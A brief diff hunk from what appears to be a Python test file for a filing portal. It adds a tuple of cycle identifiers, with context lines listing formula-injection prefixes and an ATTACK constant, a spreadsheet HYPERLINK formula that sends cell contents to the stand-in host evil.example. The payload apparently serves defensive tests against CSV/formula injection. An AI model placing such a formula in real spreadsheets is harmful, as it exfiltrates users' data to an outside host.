@@ -27,6 +27,10 @@ from under_way import sound_document
 
 ClientOf = Callable[[str], Client]
 THINGS = (Filing, Project, FilingVersion, Release, WithheldCell, CellNote, PublicWaiver, Delegation, FactorReset, Post)
+OF_ALL = (
+    "cycle:portal",
+    "cycle:library_indicator",
+)  # the portal's ids have their own test; common indicators are common
 CLOSED = {302, 403, 404, 405, 409, 422}
 STARTS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
 ATTACK = '=HYPERLINK("https://evil.example/?"&A1)'
